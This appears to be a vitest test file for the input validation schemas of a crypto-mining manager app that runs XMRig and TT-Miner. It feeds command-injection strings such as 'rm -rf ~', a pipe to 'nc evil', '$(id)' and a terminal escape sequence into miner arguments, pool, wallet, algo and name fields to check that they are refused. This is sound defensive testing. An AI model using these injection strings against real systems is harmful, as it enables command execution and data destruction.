// Hostile and invalid start requests must be rejected by minerStartSchema, naming the offending field,
// because these values end up in miner argument arrays and config files.
import { describe, it, expect } from 'vitest';
import { profileInputSchema } from './contract';
import { fieldErrors, minerConfigObject, minerStartSchema, splitCliArgs, throttleSchema } from './schemas';

const valid = {
  minerType: 'xmrig' as const,
  config: {
    pool: 'stratum+tcp://pool.example.com:3333',
    wallet: '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx',
  },
};

function errorsFor(config: Record<string, unknown>, minerType: 'xmrig' | 'ttminer' | 'simulated' = 'xmrig') {
  const result = minerStartSchema.safeParse({ ...valid, minerType, config: { ...valid.config, ...config } });
  expect(result.success).toBe(false);
  return result.success ? [] : fieldErrors(result.error);
}

describe('minerStartSchema', () => {
  it('accepts a sane xmrig request and fills defaults', () => {
    const result = minerStartSchema.parse(valid);
    expect(result.config).toMatchObject({
      threads: 0,
      cpuMaxThreadsHint: 100,
      donateLevel: 1,
      password: 'x',
    });
  });

  it.each([
    ['a semicolon', '--cpu-no-yield;rm -rf ~'],
    ['a pipe', '--print-time=5 | nc evil 1'],
    ['command substitution', '--user-agent=$(id)'],
    ['backticks', '--user-agent=`id`'],
    ['a redirect', '--print-time=5 >/tmp/x'],
    ['an ampersand', '--print-time=5 &'],
  ])('rejects cliArgs with %s', (_label, cliArgs) => {
    const errors = errorsFor({ cliArgs });
    expect(errors[0]?.path).toBe('config.cliArgs');
    expect(errors[0]?.message).toMatch(/shell metacharacter/);
  });

  it.each([
    ['--log-file=/etc/x', /"--log-file" is not allowed/],
    ['--log-f=/etc/x', /"--log-f" is --log-file, which the app does not allow/],
    ['--http-port=1234', /"--http-port" is not allowed/],
    ['--http-port', /"--http-port" is not allowed/],
    ['-b', /"-b" is not an XMRig 6\.26\.0 option/],
    ['--config=/tmp/c.json', /"--config" is not allowed/],
    ['-c/tmp/c.json', /"-c" in "-c\/tmp\/c.json" is --config/],
    ['--api-bind=0.0.0.0:1', /"--api-bind" is not an XMRig 6\.26\.0 option/],
  ])('rejects %s for XMRig, naming what it resolves to', (cliArgs, message) => {
    const errors = errorsFor({ cliArgs });
    expect(errors[0]?.path).toBe('config.cliArgs');
    expect(errors[0]?.message).toMatch(message);
  });

  it('judges cliArgs by miner type: TT-Miner exact spellings only, nothing for the simulated miner', () => {
    expect(
      minerStartSchema.safeParse({ ...valid, config: { ...valid.config, cliArgs: '--no-yield' } }).success,
    ).toBe(true);
    expect(errorsFor({ cliArgs: '--no-yield' }, 'ttminer')[0]).toEqual({
      path: 'config.cliArgs',
      message:
        '"--no-yield" is not an argument the app allows for TT-Miner (only the exact spellings -nocolor, -notimestamp)',
    });
    const sim = minerStartSchema.safeParse({ minerType: 'simulated', config: { cliArgs: '-nocolor' } });
    expect(sim.success ? [] : fieldErrors(sim.error)).toEqual([
      { path: 'config.cliArgs', message: 'The simulated miner takes no extra arguments' },
    ]);
  });

  it('refuses --cpu-affinity without an explicit thread count, where XMRig would ignore it', () => {
    expect(errorsFor({ cliArgs: '--cpu-affinity=0x3' })[0]?.message).toMatch(/needs a thread count/);
    const ok = minerStartSchema.safeParse({
      ...valid,
      config: { ...valid.config, threads: 2, cliArgs: '--cpu-affinity=0x3' },
    });
    expect(ok.success).toBe(true);
  });

  it('reports a too-long cliArgs once', () => {
    const errors = errorsFor({ cliArgs: '--verbose '.repeat(101) });
    expect(errors.filter((e) => e.path === 'config.cliArgs')).toEqual([
      { path: 'config.cliArgs', message: 'Extra arguments are too long' },
    ]);
  });

  it.each([
    ['threads 1025', { threads: 1025 }, 'config.threads'],
    ['threads -1', { threads: -1 }, 'config.threads'],
    ['hint 0', { cpuMaxThreadsHint: 0 }, 'config.cpuMaxThreadsHint'],
    ['hint 101', { cpuMaxThreadsHint: 101 }, 'config.cpuMaxThreadsHint'],
    ['priority 6', { cpuPriority: 6 }, 'config.cpuPriority'],
    ['donate 0', { donateLevel: 0 }, 'config.donateLevel'],
    ['api port 80', { apiPort: 80 }, 'config.apiPort'],
    ['pool without port', { pool: 'stratum+tcp://pool.example.com' }, 'config.pool'],
    ['pool with spaces', { pool: 'pool.example.com :3333' }, 'config.pool'],
    ['pool with a shell payload', { pool: 'pool.example.com:3333;reboot' }, 'config.pool'],
    ['pool with port 0', { pool: 'pool.example.com:0' }, 'config.pool'],
    ['wallet with ;', { wallet: '4Adx;rm -rf /' }, 'config.wallet'],
    ['empty wallet', { wallet: '' }, 'config.wallet'],
    ['password with a space', { password: 'x y' }, 'config.password'],
    ['password with a newline', { password: 'x\ny' }, 'config.password'],
    ['algo with a shell payload', { algo: 'rx/0;id' }, 'config.algo'],
    ['devices as text', { devices: 'all' }, 'config.devices'],
  ])('rejects %s and names %s', (_label, config, path) => {
    const errors = errorsFor(config);
    expect(errors.map((e) => e.path)).toContain(path);
    expect(errors.find((e) => e.path === path)?.message.length).toBeGreaterThan(5);
  });

  it('names an out-of-range pool port instead of giving the format message', () => {
    for (const pool of ['127.0.0.1:99999', 'pool.example.com:0', 'pool.example.com:1234567']) {
      const message = errorsFor({ pool }).find((e) => e.path === 'config.pool')?.message;
      expect(message).toMatch(/^Pool port \d+ is out of range \(1–65535\)$/);
    }
    expect(errorsFor({ pool: 'stratum+tcp://pool.example.com' })[0]?.message).toMatch(/must look like/);
    expect(
      minerStartSchema.safeParse({ ...valid, config: { ...valid.config, pool: '127.0.0.1:65535' } }).success,
    ).toBe(true);
  });

  it('rejects a pool without port for ttminer too, but not for the simulated miner', () => {
    expect(errorsFor({ pool: 'pool.example.com' }, 'ttminer').map((e) => e.path)).toContain('config.pool');
    expect(minerStartSchema.safeParse({ minerType: 'simulated', config: {} }).success).toBe(true);
  });

  it('rejects an unknown miner type and a name with control characters', () => {
    expect(minerStartSchema.safeParse({ ...valid, minerType: 'bash' }).success).toBe(false);
    const r = minerStartSchema.safeParse({ ...valid, name: 'rig\u001b]0;pwned\u0007' });
    expect(r.success).toBe(false);
    if (!r.success) expect(fieldErrors(r.error)[0]?.path).toBe('name');
  });

  it('keeps any printable display name (the id is derived separately, see slug)', () => {
    expect(minerStartSchema.safeParse({ ...valid, name: 'Майнер 矿工 (light)' }).success).toBe(true);
  });
});

describe('profileInputSchema', () => {
  it("judges cliArgs by the profile's miner type and reports them under config.cliArgs", () => {
    const sim = profileInputSchema.safeParse({
      name: 'Demo',
      minerType: 'simulated',
      config: { cliArgs: '-k' },
    });
    expect(sim.success ? [] : fieldErrors(sim.error)).toEqual([
      { path: 'config.cliArgs', message: 'The simulated miner takes no extra arguments' },
    ]);
    const xmrig = profileInputSchema.safeParse({
      name: 'Rig',
      minerType: 'xmrig',
      config: { cliArgs: '-Bk' },
    });
    expect(xmrig.success ? [] : fieldErrors(xmrig.error)[0]?.path).toBe('config.cliArgs');
    expect(
      profileInputSchema.safeParse({ name: 'Rig', minerType: 'xmrig', config: { cliArgs: '--no-dmi' } })
        .success,
    ).toBe(true);
  });

  it('leaves stored configs (no type at hand) to those checks: minerConfigObject only bounds the length', () => {
    expect(minerConfigObject.safeParse({ cliArgs: '--back' }).success).toBe(true);
    expect(minerConfigObject.safeParse({ cliArgs: 'x'.repeat(1001) }).success).toBe(false);
  });
});

describe('splitCliArgs', () => {
  it('splits on whitespace without any quoting', () => {
    expect(splitCliArgs('  --cpu-no-yield   --print-time=5 ')).toEqual(['--cpu-no-yield', '--print-time=5']);
    expect(splitCliArgs('"a b"')).toEqual(['"a', 'b"']);
    expect(splitCliArgs(undefined)).toEqual([]);
  });

  it('splits on ASCII whitespace only, so a Unicode space stays in the token and gets refused', () => {
    expect(splitCliArgs('--verbose\u00a0--background\t-k')).toEqual(['--verbose\u00a0--background', '-k']);
  });
});

describe('throttleSchema', () => {
  it('needs at least one field and bounds each', () => {
    expect(throttleSchema.safeParse({}).success).toBe(false);
    expect(throttleSchema.safeParse({ cpuMaxThreadsHint: 101 }).success).toBe(false);
    expect(throttleSchema.parse({ cpuMaxThreadsHint: 50 })).toEqual({ cpuMaxThreadsHint: 50 });
  });
});
